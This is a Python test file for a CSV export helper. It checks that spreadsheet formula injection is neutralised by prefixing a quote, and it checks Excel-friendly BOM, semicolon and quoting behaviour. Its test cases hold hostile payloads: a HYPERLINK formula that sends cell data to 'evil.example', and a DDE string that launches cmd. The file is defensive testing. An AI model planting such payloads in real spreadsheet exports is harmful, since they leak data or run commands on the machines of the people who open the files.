"""CSV for spreadsheets: formula injection neutralised (security.md V1.2.10, B21),
BOM and `;` for Excel in Denmark, RFC 4180 quoting intact."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from skinchart.lib.spreadsheet_csv import BOM, FORMULA_STARTS, neutralise, spreadsheet_csv

# Text that is often dangerous: a formula start glued to anything, or plain text.
CELL_TEXT = st.one_of(
    st.text(),
    st.tuples(st.sampled_from(FORMULA_STARTS), st.text()).map("".join),
)


def parse(text: str) -> list[list[str]]:
    assert text.startswith(BOM)
    return list(csv.reader(io.StringIO(text[len(BOM) :], newline=""), delimiter=";"))


@given(CELL_TEXT)
def test_no_neutralised_cell_starts_a_formula(text: str) -> None:
    assert not neutralise(text).startswith(FORMULA_STARTS)


@given(CELL_TEXT)
def test_the_original_is_the_neutralised_text_without_the_one_added_quote(text: str) -> None:
    cell = neutralise(text)

    if text.startswith(FORMULA_STARTS):
        assert cell == "'" + text
        assert cell[1:] == text
    else:
        assert cell == text


@given(st.lists(st.lists(CELL_TEXT.filter(lambda t: "\r" not in t), min_size=1, max_size=5), max_size=5))
def test_a_written_csv_reads_back_as_the_neutralised_cells(rows: list[list[str]]) -> None:
    # (A bare CR inside a cell is quoted on writing, but Python's reader folds it into
    # the line ending; spreadsheets keep it. The round trip is checked without it.)
    text = spreadsheet_csv(["a", "b"], rows)

    assert parse(text) == [["a", "b"], *[[neutralise(cell) for cell in row] for row in rows]]


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ('=HYPERLINK("http://evil.example/?"&A1,"x")', '\'=HYPERLINK("http://evil.example/?"&A1,"x")'),
        ("+cmd|'/C calc'!A0", "'+cmd|'/C calc'!A0"),
        ("-1+1", "'-1+1"),
        ("@SUM(1)", "'@SUM(1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("\x00=1", "'\x00=1"),
    ],
)
def test_each_formula_start_gets_a_quote(text: str, expected: str) -> None:
    assert neutralise(text) == expected


@pytest.mark.parametrize("text", ["Søren Østergaard", "LOT-2026-A", "2,50", "a=b", " =1", "'quoted", ""])
def test_ordinary_text_is_left_alone(text: str) -> None:
    assert neutralise(text) == text


def test_none_is_an_empty_cell() -> None:
    assert neutralise(None) == ""


def test_it_writes_bom_semicolons_crlf_and_quotes_where_needed() -> None:
    text = spreadsheet_csv(["Navn", "Område"], [['Ida "Iben" Holm', "Kinder; pande"], ["=1+1", None]])

    assert text == BOM + 'Navn;Område\r\n"Ida ""Iben"" Holm";"Kinder; pande"\r\n\'=1+1;\r\n'
    assert text.encode("utf-8").startswith(b"\xef\xbb\xbf")
